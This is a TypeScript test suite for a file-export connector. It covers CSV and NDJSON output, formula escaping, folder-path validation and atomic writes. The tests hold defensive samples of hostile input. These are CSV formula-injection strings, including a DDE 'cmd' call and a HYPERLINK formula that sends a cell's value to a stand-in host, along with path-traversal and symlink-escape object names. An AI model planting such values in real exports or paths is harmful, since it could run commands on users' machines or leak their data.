import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { once } from 'node:events';
import { chmod, mkdir, mkdtemp, readdir, readFile, rm, symlink, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import type { Application, ApplicationRequest, OutgoingRow } from '../../connectors/application.ts';
import { openApplication } from '../../connectors/files/application.ts';
import { escapeFormula } from '../../connectors/files/application-rows.ts';
import { ExactNumber, jsonText } from '../../schema/value.ts';
import { describeApplication } from '../kits/application.ts';
import { failureOf, outgoing } from '../kits/application-case.ts';
import { testAttempt } from '../kits/source.ts';

interface Folder extends AsyncDisposable {
  readonly path: string;
}

async function folder(): Promise<Folder> {
  const path = await mkdtemp(join(tmpdir(), 'millrace-files-application-'));
  return { path, [Symbol.asyncDispose]: async () => await rm(path, { recursive: true, force: true }) };
}

type Line = Readonly<Record<string, string>>;

async function lines(path: string): Promise<readonly Line[]> {
  const names = (await readdir(path)).filter((name) => name.endsWith('.csv')).toSorted();
  const texts = await Promise.all(names.map(async (name) => await readFile(join(path, name), 'utf8')));
  return texts.flatMap((text) => parse(text, { columns: true }) as Line[]);
}

const removing = ['delete', 'archive', 'remove'];

describeApplication<Folder>({
  name: 'files',
  request: { object: 'accounts' },
  start: folder,
  open: async ({ path }, { request }) => await openApplication({ type: 'files', path }, 'exports', request),
  secrets: [],
  hasCredential: false,
  operations: ['create', 'update', 'upsert', 'delete', 'archive', 'add', 'remove'],
  row: (no, version) => ({ match: { email: `${no}@example.com` }, fields: { score: no, plan: `p${version}` } }),
  seed: async ({ path }, rows) => {
    const text = rows.map(
      ({ match, fields }) =>
        `upsert,${Object.values({ ...match, ...fields })
          .map(jsonText)
          .join(',')}\n`,
    );
    await writeFile(join(path, 'accounts-000.csv'), `_operation,email,score,plan\n${text.join('')}`);
  },
  stored: async ({ path }, { match }) => {
    const last = (await lines(path)).findLast((line) => line['email'] === match['email']);
    return last === undefined || removing.includes(last['_operation'] ?? '') ? undefined : last;
  },
  refused: { operation: 'upsert', row: (no) => ({ match: { email: `${no}@example.com` }, fields: { score: no, plan: 'NUL \0' } }) },
  createOfExisting: 'acknowledged',
  capped: false,
});

describe('files as destination', () => {
  let path: string;
  const open = async (request: Partial<ApplicationRequest> = {}): Promise<Application> =>
    await openApplication({ type: 'files', path }, 'exports', {
      object: 'accounts',
      match: ['id'],
      fields: ['name', 'note'],
      operations: ['upsert'],
      write: {},
      ...request,
    });
  const row = (no: number, fields: OutgoingRow['fields']): OutgoingRow => outgoing(no, { match: { id: no }, fields });
  const only = async (below = path): Promise<string> => {
    const names = await readdir(below);
    assert.equal(names.length, 1, names.join());
    return await readFile(join(below, names[0] ?? ''), 'utf8');
  };
  const attempt = { ...testAttempt(), name: 'millrace:run-1:send:0' };

  beforeEach(async () => {
    ({ path } = await folder());
  });
  afterEach(async () => await rm(path, { recursive: true, force: true }));

  it('CSV tells NULL from the empty text, and keeps numbers, quotes and line ends', async () => {
    await using application = await open();
    const rows = [
      row(1, { name: 'a "b", c', note: null }),
      row(2, { name: '', note: new ExactNumber('12345678901234567890.10') }),
      row(3, { name: 'two\nlines', note: { a: [true, null] } }),
    ];
    await application.send({ operation: 'upsert', rows }, attempt);
    assert.equal(
      await only(),
      'id,name,note\r\n1,"a ""b"", c",\r\n2,"",12345678901234567890.10\r\n3,"two\nlines","{""a"":[true,null]}"\r\n',
    );
  });

  it('NDJSON keeps types, NULL, and leaves out what a row does not give', async () => {
    await using application = await open({ write: { format: 'ndjson' } });
    const rows = [row(1, { name: '=1+1', note: null }), row(2, { note: new ExactNumber('9007199254740993') })];
    await application.send({ operation: 'upsert', rows }, attempt);
    assert.equal(await only(), '{"id":1,"name":"=1+1","note":null}\n{"id":2,"note":9007199254740993}\n');
  });

  it('a column says the operation only where a sync can have more than one', async () => {
    await using application = await open({ operations: ['upsert', 'delete'] });
    await application.send({ operation: 'upsert', rows: [row(1, { name: 'a', note: 'b' })] }, attempt);
    await application.send({ operation: 'delete', rows: [row(2, {})] }, attempt);
    assert.deepEqual(await lines(path), [
      { _operation: 'upsert', id: '1', name: 'a', note: 'b' },
      { _operation: 'delete', id: '2', name: '', note: '' },
    ]);
  });

  it('texts that a spreadsheet would run are escaped unless they are to be kept; numbers stay numbers', async () => {
    const attacks = [
      '=1+1',
      '+1+1',
      '-1+1',
      '@SUM(1+1)',
      '\t=1+1',
      '\r=1+1',
      '\n=1+1',
      '＝1+1',
      '＋1+1',
      '－1+1',
      '＠SUM(1)',
      '  =1+1',
      '\u00A0=1',
      '\uFEFF=1',
      "=cmd|' /C calc'!A0",
      '=HYPERLINK("http://example.com?x="&A1,"click")',
      '+49 30 1234',
      '-',
    ];
    for (const attack of attacks) assert.equal(escapeFormula(attack), `'${attack}`);
    for (const plain of ['-1', '-1.5', '-1e10', 'a=b', '1-2', "'=1", '', 'a@b.com', '（=1）']) assert.equal(escapeFormula(plain), plain);
    for (const formulas of ['escape', 'keep'] as const) {
      await using application = await open({ write: { formulas }, fields: ['name', '=note'] });
      const rows = attacks.map((attack, no) => row(no, { name: attack, '=note': -1 }));
      await application.send({ operation: 'upsert', rows }, attempt);
      const text = await only();
      const [header, ...cells] = parse(text) as string[][];
      assert.equal(header?.[2], formulas === 'escape' ? "'=note" : '=note');
      assert.deepEqual(
        cells.map(([, cell, number]) => [cell, number]),
        attacks.map((attack) => [formulas === 'escape' ? `'${attack}` : attack, '-1']),
      );
    }
  });

  it('a second attempt replaces the file of the first; another run has files of its own', async () => {
    await using application = await open();
    for (const name of ['a', 'b']) await application.send({ operation: 'upsert', rows: [row(7, { name })] }, attempt);
    assert.deepEqual(await readdir(path), ['accounts-run-1-0000000007.csv']);
    assert.match(await only(), /7,b/);
    await application.send({ operation: 'upsert', rows: [row(7, {})] }, { ...attempt, name: 'millrace:run-2:send:0' });
    assert.deepEqual(await readdir(path), ['accounts-run-1-0000000007.csv', 'accounts-run-2-0000000007.csv']);
  });

  it('an object may have folders before its name; nothing leads out of the folder', async () => {
    await using application = await open({ object: 'daily/eu/accounts' });
    await application.send({ operation: 'upsert', rows: [row(1, {})] }, attempt);
    assert.match(await only(join(path, 'daily', 'eu')), /^id/);
    await symlink(tmpdir(), join(path, 'link'));
    const bad = [
      '../x',
      '/etc/x',
      'a/../../x',
      '..',
      '',
      'a//b',
      'a\\..\\b',
      'C:x',
      'a\0b',
      '.hidden',
      'a/.git/b',
      'link/x',
      'x.',
      'x'.repeat(300),
    ];
    for (const object of bad) {
      await using wrong = await open({ object });
      const failure = await failureOf(wrong.send({ operation: 'upsert', rows: [row(1, {})] }, attempt), []);
      assert.equal(failure.code, 'config', object);
      assert.equal((await wrong.check(attempt)).problems.length, 1, object);
    }
  });

  it('check says that the folder may not be written to, and makes nothing', async function () {
    if (process.getuid?.() === 0) this.skip();
    await mkdir(join(path, 'closed'));
    await chmod(join(path, 'closed'), 0o500);
    await using application = await open({ object: 'closed/accounts' });
    assert.match((await application.check(attempt)).problems.join(), /may not write into .*closed/);
  });

  it('wrong options are named', async () => {
    await assert.rejects(open({ write: { format: 'xlsx' } }), /accounts: write\.format/);
  });

  it('a killed process leaves a whole file or none, and the next attempt tidies up', async function () {
    this.timeout(120_000);
    const script = `
      import { openApplication } from ${JSON.stringify(join(import.meta.dirname, '../../connectors/files/application.ts'))};
      const application = await openApplication({ type: 'files', path: process.argv[1] }, 'exports',
        { object: 'accounts', match: ['id'], fields: ['name'], operations: ['upsert'], write: {} });
      const rows = Array.from({ length: 20000 }, (_, no) => ({ no, key: String(no), match: { id: no }, fields: { name: 'x'.repeat(100) }, idempotencyKey: 'k' }));
      console.log('ready');
      for (let no = 0; ; no += 1) await application.send({ operation: 'upsert', rows: [{ ...rows[0], no }, ...rows.slice(1)] },
        { signal: new AbortController().signal, name: 'millrace:run-1:send:0', beat() {} });`;
    const child = spawn(process.execPath, ['--import', 'tsx', '--input-type=module', '-e', script, path], {
      stdio: ['ignore', 'pipe', 'inherit'],
    });
    await once(child.stdout, 'data');
    while ((await readdir(path)).filter((name) => name.startsWith('accounts')).length < 3)
      await new Promise((resolve) => setTimeout(resolve, 1));
    child.kill('SIGKILL');
    await once(child, 'exit');
    for (const name of await readdir(path)) {
      if (name.startsWith('.')) continue;
      const text = await readFile(join(path, name), 'utf8');
      assert.equal(text.split('\r\n').length, 20_002, name);
      assert.ok(text.endsWith('x\r\n'));
    }
    await using application = await open();
    await application.send({ operation: 'upsert', rows: [row(1, {})] }, attempt);
    assert.deepEqual(
      (await readdir(path)).filter((name) => name.startsWith('.')),
      [],
    );
  });
});
